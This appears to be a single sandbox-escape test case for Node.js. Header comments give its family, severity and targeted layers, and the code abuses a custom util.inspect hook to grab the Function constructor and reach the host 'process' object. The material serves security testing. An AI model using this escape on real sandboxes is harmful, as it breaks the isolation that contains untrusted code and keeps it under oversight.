// technique: a function of the library handed to a custom inspector
// family: B
// severity: H
// layers: policy, mount_namespace, landlock
const util = require('util');
let found;
const trap = { [Symbol.for('nodejs.util.inspect.custom')](depth, options, inspect) { found = inspect.constructor; return ''; } };
readHost(() => { util.inspect(trap); return loaderOf(fromText(found, 'process')); });
